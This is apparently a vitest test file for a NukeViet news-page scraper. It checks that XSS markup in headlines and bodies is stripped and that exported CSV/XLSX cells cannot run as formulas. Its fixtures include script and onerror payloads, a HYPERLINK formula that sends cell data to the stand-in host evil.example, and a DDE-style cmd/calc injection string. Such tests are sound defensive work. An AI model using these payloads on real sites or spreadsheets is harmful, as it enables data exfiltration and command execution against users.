import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { nukeviet } from "../../data-loaders/nukeviet/index.ts";
import { toCsv } from "../../pipelines/export/csv.ts";
import { toXlsx } from "../../pipelines/export/xlsx.ts";
import { readCsv } from "./csv-oracle.ts";

const NOW = new Date("2026-11-24T12:00:00+07:00");
const URL = "https://sonoivu.tayninh.gov.vn/vi/news/cai-cach-hanh-chinh/tin-thu-nghiem-123.html";

/** A NukeViet detail page whose headline markup is `headline` (raw HTML, as a hostile page would send it). */
const page = (headline: string) => `<!doctype html><html><head><title>x</title></head><body>
<div class="panel-body"><h1 class="title" itemprop="headline">${headline}</h1>
<span class="h5">Thứ hai - 25/12/2023 21:47</span>
<div id="news-bodyhtml"><p>Nội dung bài viết về cải cách hành chính.</p><script>steal()</script><img src=x onerror="steal()"></div></div>
</body></html>`;

const extract = (headline: string) => nukeviet.parseArticle(page(headline), URL, { now: NOW });

describe("hostile titles after extraction", () => {
  it("an escaped payload stays literal text (entities decoded, nothing executed)", () => {
    const a = extract("&lt;script&gt;alert(1)&lt;/script&gt; Tin mới");
    expect(a.title).toBe("<script>alert(1)</script> Tin mới");
  });

  it("raw elements in the headline leave no markup in the title", () => {
    const a = extract('Tin <img src=x onerror="alert(1)"><b>cải cách</b> <svg onload=alert(2)></svg>hành chính');
    expect(a.title).toBe("Tin cải cách hành chính");
    expect(a.title).not.toMatch(/[<>]|onerror|onload/);
  });

  it("script and style elements in the headline are dropped, not turned into title text", () => {
    const a = extract("Tin <script>alert(1)</script><style>h1{}</style>mới về cải cách hành chính");
    expect(a.title).toBe("Tin mới về cải cách hành chính");
  });

  it("script and style elements in the body are dropped, not turned into text", () => {
    const a = extract("Tiêu đề");
    expect(a.body_text).toBe("Nội dung bài viết về cải cách hành chính.");
  });

  it("payload titles are inert in CSV and XLSX", async () => {
    const titles = [
      extract("&lt;script&gt;alert(1)&lt;/script&gt;").title,
      extract('&lt;img src=x onerror="alert(1)"&gt;').title,
      extract("=HYPERLINK(&quot;http://evil.example/?q=&quot;&amp;A1, &quot;Bấm vào&quot;)").title,
      extract("@SUM(1+1)*cmd|' /C calc'!A0").title,
      extract("-2+3 Tin").title,
    ];
    expect(titles[2]).toBe('=HYPERLINK("http://evil.example/?q="&A1, "Bấm vào")');
    const rows = titles.map((title) => ({ title }));
    const columns = [{ key: "title" as const, header: "Tiêu đề" }];
    const cells = readCsv(toCsv(rows, columns).slice(1)).slice(1).map(([c]) => c);
    cells.forEach((cell, i) => {
      expect(cell).not.toMatch(/^[=+\-@]/);
      expect(cell.replace(/^'/, "")).toBe(titles[i]);
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await toXlsx(rows, columns, { sheet: "Minh chứng" })) as never);
    const sheet = wb.getWorksheet("Minh chứng")!;
    titles.forEach((title, i) => {
      const cell = sheet.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(String(cell.value).replace(/^'/, "")).toBe(title);
    });
  });
});
